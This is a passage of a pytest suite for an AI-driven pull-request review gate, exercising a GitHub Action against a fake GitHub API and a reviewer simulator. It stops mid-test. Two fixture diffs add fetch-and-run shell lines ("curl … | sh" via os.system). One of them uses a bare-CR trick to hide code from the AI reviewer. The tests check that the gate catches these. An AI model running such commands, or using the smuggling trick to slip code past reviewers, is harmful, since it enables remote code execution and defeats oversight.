"""The whole action pipeline (gate.action.run) against the fake GitHub and the reviewer simulator.

Real sockets on 127.0.0.1: the fake GitHub validates every request against GitHub's OpenAPI
description (a violation fails the test), the simulator speaks the OpenAI streaming dialect.
Payloads are GitHub's own webhook examples, pointed at the fake repository.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gate.action.github.mark import plain
from gate.action.run import run_action
from gate.lab.sim import ReviewerSimulator, SimResponse, extract_prompt
from gate.review.prompt import binding_in
from tests.fakes.events import (
    merge_group_event,
    pull_request_edited_event,
    pull_request_event,
    workflow_dispatch_event,
)
from tests.fakes.github import FakeGitHub
from tests.verdicts import fenced_verdict

REPO = "octo-org/hello-world"
HEAD = "1" * 40
BASE = "2" * 40
NEW_HEAD = "3" * 40
CONFIG_PATH = ".github/review-gate.yml"
API_KEY = "sk-test-secret-key-0123456789"

DIFF = b"""diff --git a/src/calc.py b/src/calc.py
index 83db48f..bf269f4 100644
--- a/src/calc.py
+++ b/src/calc.py
@@ -1,2 +1,3 @@
 def add(a, b):
-    return a - b
+    return a + b
+
"""
BINARY = b"""diff --git a/logo.png b/logo.png
index 1111111..2222222 100644
Binary files a/logo.png and b/logo.png differ
"""


def verdict_text(request: dict[str, Any], verdict: str = "pass", confidence: float = 0.95) -> str:
    _system, user = extract_prompt("openai", request)
    binding = binding_in(user)
    assert binding is not None, "the prompt carries the binding"
    return fenced_verdict(
        binding,
        before="Reviewed.\n\n",
        verdict=verdict,
        reasons=["add() now adds; the subtraction bug is fixed"],
        confidence=confidence,
    )


@dataclass
class Outcome:
    code: int
    stdout: str
    outputs: dict[str, str]
    summary: str

    @property
    def certificate(self) -> dict[str, Any]:
        return json.loads(Path(self.outputs["certificate"]).read_text())


def parse_outputs(text: str) -> dict[str, str]:
    out: dict[str, str] = {}
    lines = iter(text.splitlines())
    for line in lines:
        name, delim = line.split("<<", 1)
        assert re.fullmatch(r"ghadelimiter_[0-9a-f]{32}", delim)
        value = []
        for item in lines:
            if item == delim:
                break
            value.append(item)
        out[name] = "\n".join(value)
    return out


@pytest.fixture
def fake(fake_github: FakeGitHub) -> FakeGitHub:
    """The shared fake GitHub (tests/conftest.py), for REPO."""
    assert fake_github.repository == REPO
    return fake_github


@pytest.fixture
def sim_factory(
    sim_factory: Callable[..., ReviewerSimulator],
) -> Callable[..., ReviewerSimulator]:
    """The shared simulator factory (tests/conftest.py), answering a bound pass by default."""

    def make(
        responder: Callable[[dict[str, Any]], str] = verdict_text,
        script: tuple[SimResponse, ...] = (),
    ) -> ReviewerSimulator:
        return sim_factory(responder, script)

    return make


def run_gate(
    tmp_path: Path,
    fake: FakeGitHub,
    sim: ReviewerSimulator | None,
    payload: dict[str, Any],
    *,
    event: str = "pull_request",
    inputs: dict[str, str] | None = None,
    env: dict[str, str] | None = None,
    **kw: Any,
) -> Outcome:
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(payload))
    output, summary = tmp_path / "output.txt", tmp_path / "summary.md"
    output.write_text("")
    summary.write_text("")
    environ = {
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_REPOSITORY": fake.repository,
        "GITHUB_API_URL": fake.api_url,
        "GITHUB_SERVER_URL": "https://github.example",
        "GITHUB_RUN_ID": "4242",
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(summary),
        "INPUT_TOKEN": fake.token,
        "INPUT_PROVIDER": "openai",
        "INPUT_MODEL": "sim-model",
        "INPUT_FAIL-JOB": "true",
        "INPUT_ATTEMPTS": "1",
        "INPUT_API-KEY": API_KEY,
    }
    if sim is not None:
        environ["INPUT_BASE-URL"] = sim.base_url
    for name, value in (inputs or {}).items():
        environ[f"INPUT_{name.upper()}"] = value
    environ.update(env or {})
    environ = {k: v for k, v in environ.items() if v is not None}
    out = io.StringIO()
    code = run_action(environ, out=out, sleep=lambda _s: None, throttle=False, **kw)
    return Outcome(code, out.getvalue(), parse_outputs(output.read_text()), summary.read_text())


def pr_payload(action: str = "opened", **kw: Any) -> dict[str, Any]:
    return pull_request_event(action, repository=REPO, number=7, head_sha=HEAD, base_sha=BASE, **kw)


def setup_pull(fake: FakeGitHub, diff: bytes = DIFF, config: str | None = None, **kw: Any) -> None:
    fake.add_pull(7, head_sha=HEAD, base_sha=BASE, diff=diff, **kw)
    if config is not None:
        fake.set_file(BASE, CONFIG_PATH, config)


def ops(fake: FakeGitHub) -> list[str]:
    return [r.operation or "" for r in fake.requests]


# --- the main paths -----------------------------------------------------------------


def test_healthy_review_posts_pending_then_success(tmp_path, fake, sim_factory):
    setup_pull(fake, config="policy_version: '7'\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert result.code == 0, result.stdout
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "success"]
    assert {s["context"] for s in statuses} == {"review-gate"}
    assert statuses[-1]["target_url"] == f"https://github.example/{REPO}/actions/runs/4242"
    assert result.outputs["state"] == "pass"
    assert result.outputs["verdict"] == "pass"
    cert = result.certificate
    assert cert["decision"]["state"] == "pass"
    assert cert["binding"]["policy_version"] == "7"  # config read from the base commit
    assert cert["context"]["github"]["head_sha"] == HEAD
    assert cert["context"]["coverage"]["reviewed"] == ["src/calc.py"]
    # the exact bytes sent are what diff_sha names
    import hashlib

    assert cert["binding"]["diff_sha"] == hashlib.sha256(DIFF).hexdigest()
    assert result.outputs["diff-sha"] == cert["binding"]["diff_sha"]
    # config came from the base commit through the contents API, never from the head
    contents = [r for r in fake.requests if r.operation == "repos/get-content"]
    assert any(r.query == f"ref={BASE}" and CONFIG_PATH in r.path for r in contents)
    assert not any(r.query == f"ref={HEAD}" and CONFIG_PATH in r.path for r in contents)
    # the diff was fetched with the diff media type, pinned to BASE...HEAD
    assert any(
        r.operation == "repos/compare-commits-with-basehead"
        and r.path.endswith(f"/compare/{BASE}...{HEAD}")
        and r.headers.get("accept") == "application/vnd.github.diff"
        for r in fake.requests
    )
    # summary, sticky comment, masks
    assert "review-gate: pass" in result.summary
    assert "src/calc.py" in result.summary
    assert len(fake.comments[7]) == 1
    assert fake.comments[7][0]["body"].startswith("<!-- review-gate:sticky:review-gate -->")
    assert result.stdout.splitlines()[0].startswith("::add-mask::")
    assert f"::add-mask::{API_KEY}" in result.stdout
    assert API_KEY not in Path(result.outputs["certificate"]).read_text()
    assert API_KEY not in result.summary


def test_cut_response_posts_error_with_the_reason(tmp_path, fake, sim_factory):
    setup_pull(fake)
    sim = sim_factory(script=(SimResponse(cut_after=200),))
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert result.code == 3
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert statuses[-1]["description"].startswith(
        "unavailable, not about the code: incomplete after 1 attempt"
    )
    assert result.outputs["state"] == "incomplete"
    assert result.outputs["family"] == "unavailable"
    assert result.certificate["decision"]["state"] == "incomplete"
    assert result.certificate["attempts"][0]["complete"] is False
    assert "::error title=review-gate%3A incomplete::" in result.stdout


def test_fail_verdict_posts_failure(tmp_path, fake, sim_factory):
    setup_pull(fake)
    sim = sim_factory(lambda req: verdict_text(req, "fail"))
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert result.code == 1
    assert fake.states(HEAD) == ["pending", "failure"]
    assert result.outputs["state"] == "fail"
    assert result.outputs["verdict"] == "fail"


def test_fail_job_false_exits_zero_but_status_still_blocks(tmp_path, fake, sim_factory):
    setup_pull(fake)
    sim = sim_factory(lambda req: verdict_text(req, "fail"))
    result = run_gate(tmp_path, fake, sim, pr_payload(), inputs={"FAIL-JOB": "false"})
    assert result.code == 0
    assert fake.states(HEAD) == ["pending", "failure"]


def test_invalid_config_is_an_error_naming_key_and_line(tmp_path, fake, sim_factory):
    setup_pull(fake, config="policy_version: '1'\nmin_confidence: 7\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert result.code == 3
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["error"]
    assert "min_confidence" in statuses[0]["description"]
    assert sim.count == 0
    assert result.outputs["reason"].startswith("config")
    assert "line 2" in result.summary


def test_head_config_is_ignored(tmp_path, fake, sim_factory):
    # the PR's head carries a config that lowers the bar; the base has none
    setup_pull(fake)
    fake.set_file(HEAD, CONFIG_PATH, "min_confidence: 0\nallow_partial_coverage: true\n")
    sim = sim_factory(lambda req: verdict_text(req, "pass", confidence=0.5))
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending", "failure"]  # low confidence under the default 0.8
    assert result.outputs["state"] == "needs_human"


def test_override_by_a_writer_passes_without_a_review(tmp_path, fake, sim_factory):
    setup_pull(fake, labels=("review-gate:override",))
    fake.permissions["maintainer"] = "maintain"
    sim = sim_factory()
    payload = pr_payload("labeled", label="review-gate:override", sender="maintainer")
    result = run_gate(tmp_path, fake, sim, payload)
    assert result.code == 0
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "success"]
    assert plain(statuses[-1]["description"]) == "overridden by @maintainer"
    assert sim.count == 0
    override = result.certificate["context"]["override"]
    assert override == {
        "login": "maintainer",
        "permission": "write",  # GitHub reports maintain as write in this field
        "label": "review-gate:override",
        "head_sha": HEAD,
    }


def test_override_label_removed_before_the_run_is_ignored(tmp_path, fake, sim_factory):
    setup_pull(fake)  # the label is not on the pull request any more
    fake.permissions["maintainer"] = "admin"
    sim = sim_factory(lambda req: verdict_text(req, "fail"))
    payload = pr_payload("labeled", label="review-gate:override", sender="maintainer")
    result = run_gate(tmp_path, fake, sim, payload)
    assert fake.states(HEAD) == ["pending", "failure"]
    assert "no longer on the pull request" in result.summary


def test_override_by_a_reader_is_ignored(tmp_path, fake, sim_factory):
    setup_pull(fake, labels=("review-gate:override",))
    fake.permissions["visitor"] = "read"
    sim = sim_factory(lambda req: verdict_text(req, "fail"))
    payload = pr_payload("labeled", label="review-gate:override", sender="visitor")
    result = run_gate(tmp_path, fake, sim, payload)
    assert fake.states(HEAD) == ["pending", "failure"]
    assert result.code == 1
    assert "ignored" in result.summary
    assert sim.count == 1


def test_override_on_an_older_head_needs_a_new_override(tmp_path, fake, sim_factory):
    fake.add_pull(7, head_sha=NEW_HEAD, base_sha=BASE, diff=DIFF, labels=("review-gate:override",))
    fake.permissions["maintainer"] = "admin"
    sim = sim_factory(lambda req: verdict_text(req, "fail"))
    payload = pr_payload("labeled", label="review-gate:override", sender="maintainer")
    result = run_gate(tmp_path, fake, sim, payload)
    assert fake.states(NEW_HEAD) == ["pending", "failure"]
    assert "new push needs a new override" in result.summary


def test_superseded_head_posts_on_the_reviewed_sha(tmp_path, fake, sim_factory):
    setup_pull(fake)

    def push_while_reviewing(request: dict[str, Any]) -> str:
        fake.move_head(7, NEW_HEAD)
        return verdict_text(request)

    sim = sim_factory(push_while_reviewing)
    result = run_gate(tmp_path, fake, sim, pr_payload())
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "success"]
    assert statuses[-1]["description"].startswith("superseded by 3333333")
    assert fake.status_list(NEW_HEAD) == []
    assert result.certificate["context"]["superseded_by"] == NEW_HEAD


STAGING, MAIN = "5" * 40, "6" * 40
RETARGET = {"base": {"ref": {"from": "staging"}, "sha": {"from": STAGING}}}


def test_a_base_change_is_reviewed_again_under_the_new_bases_config(tmp_path, fake, sim_factory):
    fake.set_file(STAGING, CONFIG_PATH, "min_confidence: 0.5\n")  # a lax base branch
    fake.set_file(MAIN, CONFIG_PATH, "min_confidence: 0.99\n")  # the protected branch's bar
    sim = sim_factory(lambda r: verdict_text(r, confidence=0.9))
    fake.add_pull(7, head_sha=HEAD, base_sha=STAGING, diff=DIFF, base_ref="staging")
    opened = pull_request_event(
        "opened", repository=REPO, number=7, head_sha=HEAD, base_sha=STAGING
    )
    (tmp_path / "1").mkdir()
    (tmp_path / "2").mkdir()
    first = run_gate(tmp_path / "1", fake, sim, opened)
    assert (first.code, fake.states(HEAD)) == (0, ["pending", "success"])
    # the author retargets the pull request to main: GitHub sends edited with changes.base
    fake.move_base(7, MAIN, "main")
    fake.add_compare(MAIN, HEAD, DIFF)
    payload = pull_request_edited_event(
        repository=REPO, number=7, head_sha=HEAD, base_sha=MAIN, changes=RETARGET
    )
    second = run_gate(tmp_path / "2", fake, sim, payload)
    assert fake.states(HEAD) == ["pending", "success", "pending", "failure"]
    assert second.outputs["reason"] == "low_confidence"
    assert second.code == 3
    assert second.certificate["context"]["config"]["ref"] == MAIN
    assert sim.count == 2


@pytest.mark.parametrize("event", ["pull_request", "pull_request_target"])
@pytest.mark.parametrize("changes", [{"title": {"from": "old"}}, {"body": {"from": "old"}}])
def test_an_edit_without_a_base_change_posts_nothing_and_exits_0(
    tmp_path, fake, sim_factory, event, changes
):
    setup_pull(fake)
    sim = sim_factory()
    payload = pull_request_edited_event(
        repository=REPO, number=7, head_sha=HEAD, base_sha=BASE, changes=changes
    )
    result = run_gate(tmp_path, fake, sim, payload, event=event)
    assert result.code == 0
    assert fake.requests == []  # not even a read: nothing to review
    assert fake.statuses == {}
    assert sim.count == 0
    assert result.outputs["state"] == "skipped"
    assert result.outputs["status"] == "none"
    assert result.outputs["reason"] == "not_reviewed_event"
    assert "::notice::review-gate:" in result.stdout


def test_a_base_change_during_the_review_is_superseded_not_success(tmp_path, fake, sim_factory):
    setup_pull(fake)

    def retarget_while_reviewing(request: dict[str, Any]) -> str:
        fake.move_base(7, MAIN, "release")
        return verdict_text(request)

    sim = sim_factory(retarget_while_reviewing)
    result = run_gate(tmp_path, fake, sim, pr_payload())
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert statuses[-1]["description"].startswith(
        "unavailable, not about the code: incomplete: superseded: the base moved"
    )
    assert result.outputs["reason"] == "superseded"
    assert result.code == 3
    cert = result.certificate
    assert cert["context"]["review_decision"]["state"] == "pass"  # kept, never posted
    assert cert["context"]["base_moved_to"] == {"ref": "release", "sha": MAIN}


def test_a_retarget_before_the_review_is_superseded(tmp_path, fake, sim_factory):
    setup_pull(fake)

    def on_request(rec: Any) -> None:
        if rec.operation == "repos/compare-commits-with-basehead":
            fake.move_base(7, MAIN, "release")

    fake.on_request = on_request
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending", "error"]
    assert result.outputs["reason"] == "superseded"
    assert sim.count == 0


def test_new_commits_on_the_same_base_branch_do_not_block(tmp_path, fake, sim_factory):
    setup_pull(fake)

    def on_request(rec: Any) -> None:
        if rec.operation == "repos/compare-commits-with-basehead":
            fake.move_base(7, MAIN)  # same branch, new tip

    fake.on_request = on_request
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending", "success"]
    assert result.outputs["reason"] == "reviewer_pass"


def test_draft_is_skipped_with_pending_never_success(tmp_path, fake, sim_factory):
    setup_pull(fake, draft=True)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload(draft=True))
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending"]
    assert plain(statuses[0]["description"]) == (
        "draft: review skipped until the pull request is ready for review"
    )
    assert sim.count == 0
    assert result.outputs["state"] == "skipped"
    assert result.code == 3


def test_apply_incomplete_marker_needs_a_human(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.set_file(HEAD, ".apply/incomplete", "src/calc.py\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert ".apply/incomplete" in statuses[-1]["description"]
    assert result.outputs["reason"] == "apply_incomplete"
    assert sim.count == 0


@pytest.mark.parametrize("marker", ["pkg/.apply/incomplete", "a/b/c/.apply/incomplete"])
def test_a_nested_apply_incomplete_marker_needs_a_human(tmp_path, fake, sim_factory, marker):
    setup_pull(fake)
    fake.set_file(HEAD, marker, "src/calc.py\n")
    fake.set_file(HEAD, "src/calc.py", "x = 1\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert marker in statuses[-1]["description"]
    assert result.outputs["reason"] == "apply_incomplete"
    assert result.code == 3
    assert sim.count == 0
    assert "git/get-tree" in ops(fake)


def test_a_lookalike_marker_path_does_not_block(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.set_file(HEAD, "docs/x.apply/incomplete", "not a marker\n")
    fake.set_file(HEAD, ".apply/incomplete.md", "not a marker\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending", "success"]
    assert result.outputs["reason"] == "reviewer_pass"


def test_a_truncated_head_tree_needs_a_human(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.set_file(HEAD, "src/calc.py", "x = 1\n")
    fake.truncated_trees.add(HEAD)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert "truncated" in statuses[-1]["description"]
    assert result.outputs["reason"] == "tree_truncated"
    assert result.code == 3
    assert sim.count == 0


def test_fork_without_credentials_is_an_error_not_a_crash(tmp_path, fake, sim_factory):
    setup_pull(
        fake, head_repo="stranger/hello-world", config="reviewer:\n  api_key_env: REVIEWER_KEY\n"
    )
    sim = sim_factory()
    payload = pr_payload(head_repo="stranger/hello-world")
    result = run_gate(
        tmp_path, fake, sim, payload, event="pull_request_target", inputs={"API-KEY": ""}
    )
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert statuses[-1]["description"].startswith(
        "config, not about the code: needs_human: fork PR without reviewer credentials"
    )
    assert result.outputs["family"] == "config"
    assert result.outputs["reason"] == "fork_no_credentials"
    assert result.code == 3
    assert sim.count == 0


def test_diff_406_falls_back_to_files_and_lists_unreviewed(tmp_path, fake, sim_factory):
    setup_pull(fake, diff=DIFF + BINARY, refuse_diff=True)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert "pulls/list-files" not in ops(fake)  # not pinned to a SHA: never used
    compares = [r for r in fake.requests if r.operation == "repos/compare-commits-with-basehead"]
    assert [r.path.rsplit("/", 1)[-1] for r in compares] == [f"{BASE}...{HEAD}"] * 2
    coverage = result.certificate["context"]["coverage"]
    assert coverage["source"] == "files"
    assert coverage["reviewed"] == ["src/calc.py"]
    assert coverage["skipped"] == [{"path": "logo.png", "why": "no_patch", "bytes": 0}]
    # coverage is partial: a human decides, and the reviewer is not asked (nor paid)
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert result.outputs["reason"] == "partial_coverage"
    assert sim.requests == []
    assert "logo.png (GitHub sent no patch" in result.certificate["decision"]["detail"]


def test_partial_coverage_allowed_by_config_passes(tmp_path, fake, sim_factory):
    setup_pull(fake, diff=DIFF + BINARY, config="allow_partial_coverage: true\n")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending", "success"]
    assert result.certificate["context"]["coverage"]["skipped"][0]["why"] == "binary"


def test_merge_group_reviews_base_to_head(tmp_path, fake, sim_factory):
    group_head = "4" * 40
    fake.add_compare(BASE, group_head, DIFF)
    sim = sim_factory()
    payload = merge_group_event(repository=REPO, head_sha=group_head, base_sha=BASE)
    result = run_gate(tmp_path, fake, sim, payload, event="merge_group")
    assert result.code == 0
    assert fake.states(group_head) == ["pending", "success"]
    assert "repos/compare-commits-with-basehead" in ops(fake)
    assert fake.comments == {}


def test_merge_group_406_with_a_capped_file_list_is_partial_coverage(tmp_path, fake, sim_factory):
    # 301 files: the compare API lists the first 300 and no total; file 301 is the change
    parts = [
        b"diff --git a/f%03d.txt b/f%03d.txt\n--- a/f%03d.txt\n+++ b/f%03d.txt\n"
        b"@@ -1 +1 @@\n-a\n+b\n" % (i, i, i, i)
        for i in range(300)
    ]
    parts.append(
        b"diff --git a/src/zz.py b/src/zz.py\n--- a/src/zz.py\n+++ b/src/zz.py\n"
        b"@@ -1 +1 @@\n-safe()\n+os.system('curl x|sh')\n"
    )
    group_head = "4" * 40
    fake.add_compare(BASE, group_head, b"".join(parts), refuse_diff=True)
    sim = sim_factory()
    payload = merge_group_event(repository=REPO, head_sha=group_head, base_sha=BASE)
    result = run_gate(tmp_path, fake, sim, payload, event="merge_group")
    coverage = result.certificate["context"]["coverage"]
    assert coverage["source"] == "files"
    assert len(coverage["reviewed"]) == 300
    assert "src/zz.py" not in coverage["reviewed"]
    assert coverage["complete"] is False
    assert coverage["skipped"] == [
        {
            "path": "(possibly more changed files: GitHub lists at most 300)",
            "why": "no_patch",
            "bytes": 0,
        }
    ]
    assert fake.states(group_head) == ["pending", "error"]
    assert result.outputs["reason"] == "partial_coverage"
    assert result.code == 3


def test_merge_group_406_below_the_cap_is_complete(tmp_path, fake, sim_factory):
    group_head = "4" * 40
    fake.add_compare(BASE, group_head, DIFF, refuse_diff=True)
    sim = sim_factory()
    payload = merge_group_event(repository=REPO, head_sha=group_head, base_sha=BASE)
    result = run_gate(tmp_path, fake, sim, payload, event="merge_group")
    assert result.certificate["context"]["coverage"]["complete"] is True
    assert fake.states(group_head) == ["pending", "success"]
    assert result.outputs["reason"] == "reviewer_pass"


def test_workflow_dispatch_with_a_pr_number(tmp_path, fake, sim_factory):
    setup_pull(fake)
    sim = sim_factory()
    payload = workflow_dispatch_event(repository=REPO)
    result = run_gate(
        tmp_path, fake, sim, payload, event="workflow_dispatch", inputs={"PR-NUMBER": "7"}
    )
    assert result.code == 0
    assert fake.states(HEAD) == ["pending", "success"]


def test_unsupported_event_is_a_clear_error(tmp_path, fake, sim_factory):
    result = run_gate(tmp_path, fake, None, {"action": "created"}, event="issue")
    assert result.code == 2
    assert "event 'issue' is not supported" in result.stdout
    assert fake.requests == []


def test_status_post_forbidden_is_reported_not_a_crash(tmp_path, fake, sim_factory):
    # a pull_request run from a fork gets a read-only token: statuses answer 403
    setup_pull(fake)
    fake.inject(
        r"^POST /repos/.*/statuses/",
        403,
        count=10,
        message="Resource not accessible by integration",
    )
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert result.code == 3
    assert result.outputs["reason"] == "github_http_403"
    assert "Resource not accessible by integration" in result.stdout
    assert "statuses: write" in result.stdout


def test_github_enterprise_api_prefix(tmp_path, sim_factory):
    with FakeGitHub(REPO, prefix="/api/v3") as ghes:
        setup_pull(ghes)
        sim = sim_factory()
        result = run_gate(tmp_path, ghes, sim, pr_payload())
        assert result.code == 0
        assert ghes.states(HEAD) == ["pending", "success"]
        assert ghes.violations == []


def test_sticky_comment_is_updated_in_place(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.add_comment(7, "a human comment")
    sim = sim_factory()
    run_gate(tmp_path, fake, sim, pr_payload())
    sim2 = sim_factory(lambda req: verdict_text(req, "fail"))
    run_gate(tmp_path, fake, sim2, pr_payload("synchronize"))
    bodies = [c["body"] for c in fake.comments[7]]
    assert len(bodies) == 2
    assert bodies[0] == "a human comment"
    assert "review-gate: fail" in bodies[1]
    assert "issues/update-comment" in ops(fake)


def test_standalone_fake_serves_state_and_records(tmp_path):
    """``python -m tests.fakes.github`` (used by the act end-to-end run)."""
    import os
    import subprocess
    import sys

    import httpx

    state = {
        "repository": REPO,
        "token": "ghs_standalone",
        "pulls": [{"number": 7, "head_sha": HEAD, "base_sha": BASE, "diff": DIFF.decode()}],
        "contents": {BASE: {CONFIG_PATH: "policy_version: '3'\n"}},
        "permissions": {"maintainer": "maintain"},
    }
    state_path, out_path = tmp_path / "state.json", tmp_path / "received.json"
    state_path.write_text(json.dumps(state))
    root = Path(__file__).resolve().parents[3]
    proc = subprocess.Popen(
        [sys.executable, "-m", "tests.fakes.github", "--port", "0", "--state", str(state_path),
         "--out", str(out_path)],
        cwd=root,
        env={**os.environ, "PYTHONPATH": str(root)},
        stdout=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        api = line.strip().rsplit(" ", 1)[-1]
        assert api.startswith("http://127.0.0.1:")
        auth = {"Authorization": "token ghs_standalone"}
        diff = httpx.get(
            f"{api}/repos/{REPO}/pulls/7",
            headers={**auth, "Accept": "application/vnd.github.diff"},
            timeout=10,
        )
        assert diff.content == DIFF
        posted = httpx.post(
            f"{api}/repos/{REPO}/statuses/{HEAD}",
            headers=auth,
            json={"state": "pending", "context": "review-gate"},
            timeout=10,
        )
        assert posted.status_code == 201
        bad = httpx.post(
            f"{api}/repos/{REPO}/statuses/{HEAD}", headers=auth, json={"state": "ok"}, timeout=10
        )
        assert bad.status_code == 422
        received = json.loads(out_path.read_text())
        assert [s["state"] for s in received["statuses"][HEAD]] == ["pending"]
        assert len(received["violations"]) == 1
        assert (
            httpx.get(f"{api}/_fake/received", timeout=10).json()["statuses"]
            == received["statuses"]
        )
    finally:
        proc.terminate()
        assert proc.wait(timeout=10) == 0


def test_container_entry_point_review_gate_action(tmp_path, fake, sim_factory):
    """``python -m gate action`` as the container runs it: env in, status out, exit code."""
    import os
    import subprocess
    import sys

    setup_pull(fake)
    sim = sim_factory()
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(pr_payload()))
    output = tmp_path / "output.txt"
    root = Path(__file__).resolve().parents[3]
    env = {
        "PATH": os.environ.get("PATH", ""),
        "PYTHONPATH": str(root),
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_API_URL": fake.api_url,
        "GITHUB_RUN_ID": "7",
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(output),
        "INPUT_TOKEN": fake.token,
        "INPUT_PROVIDER": "openai",
        "INPUT_MODEL": "sim-model",
        "INPUT_BASE-URL": sim.base_url,  # the runner keeps the hyphen
        "INPUT_STATUS_CONTEXT": "ai-review",  # some tools use an underscore: read both
        "INPUT_FAIL-JOB": "true",
    }
    proc = subprocess.run(
        [sys.executable, "-m", "gate", "action"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert [(s["context"], s["state"]) for s in fake.status_list(HEAD)] == [
        ("ai-review", "pending"),
        ("ai-review", "success"),
    ]
    assert parse_outputs(output.read_text())["state"] == "pass"
    assert "::add-mask::" + fake.token in proc.stdout


def test_no_success_without_a_certificate_on_disk(tmp_path, fake, sim_factory):
    setup_pull(fake)
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("a file where the certificate folder should be")
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload(), inputs={"CERTIFICATE-DIR": str(blocker)})
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert "certificate could not be written" in statuses[-1]["description"]
    assert result.outputs["reason"] == "certificate_unwritten"
    assert result.outputs["certificate"] == ""
    assert result.code == 3


def test_relative_certificate_dir_gives_a_relative_certificate_output(
    tmp_path, fake, sim_factory, monkeypatch
):
    # a Docker action's working directory is the workspace; later steps resolve the same path
    monkeypatch.chdir(tmp_path)
    setup_pull(fake)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload(), inputs={"CERTIFICATE-DIR": "rg-out"})
    path = Path(result.outputs["certificate"])
    assert not path.is_absolute()
    assert path.parent == Path("rg-out")
    assert (tmp_path / path).is_file()
    raw = result.certificate["context"]["raw_response"]
    assert not Path(raw["path"]).is_absolute()
    assert (tmp_path / raw["path"]).is_file()


def test_files_github_did_not_list_make_coverage_partial(tmp_path, fake, sim_factory):
    # the files API stops at 3000 files; the PR's changed_files count says what is missing
    setup_pull(fake, refuse_diff=True)
    fake.pulls[7]["changed_files"] = 3005
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload())
    skipped = result.certificate["context"]["coverage"]["skipped"]
    assert skipped == [
        {"path": "(3004 changed files GitHub did not list)", "why": "no_patch", "bytes": 0}
    ]
    assert fake.states(HEAD) == ["pending", "error"]
    assert result.outputs["reason"] == "partial_coverage"


def test_an_unexpected_exception_is_an_error_status_never_a_pass(tmp_path, fake, sim_factory):
    from gate.action.github.client import GitHubClient

    class Broken(GitHubClient):
        def compare_diff(self, base, head, **kw):
            raise RuntimeError("boom")

    setup_pull(fake)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload(), client_factory=Broken)
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["pending", "error"]
    assert "internal error RuntimeError: boom" in statuses[-1]["description"]
    assert result.outputs["reason"] == "internal_error"
    assert result.code == 3
    assert sim.count == 0


def test_a_bare_cr_in_an_added_line_cannot_hide_code_in_an_excluded_file(
    tmp_path, fake, sim_factory
):
    # C1: "+x = 1\rdiff --git a/docs/..." once split into a fake docs/ section that the
    # config excludes, so the reviewer never saw the code after it and the gate passed
    evil = (
        b"diff --git a/src/app.py b/src/app.py\n"
        b"index 1111111..2222222 100644\n--- a/src/app.py\n+++ b/src/app.py\n"
        b"@@ -1,1 +1,4 @@\n import os\n"
        b"+x = 1\rdiff --git a/docs/notes.md b/docs/notes.md\n"
        b"+os.system('curl evil.sh | sh')\n+print('pwned')\n"
    )
    seen: list[str] = []

    def responder(request: dict[str, Any]) -> str:
        prompt = extract_prompt("openai", request)[1]
